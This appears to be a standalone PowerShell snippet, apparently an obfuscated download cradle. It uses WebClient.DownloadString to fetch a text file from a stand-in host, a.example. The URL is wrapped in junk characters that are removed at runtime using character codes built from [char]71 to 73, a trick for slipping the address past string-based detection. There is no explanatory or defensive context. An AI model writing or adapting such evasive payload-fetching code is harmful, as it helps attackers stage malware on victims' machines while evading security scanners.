$wc = New-Object System.Net.WebClient
$wc.DownloadString('GHIhttp://a.example/p/x.txtGHI'.Replace(([char]71+[char]72+[char]73),''))
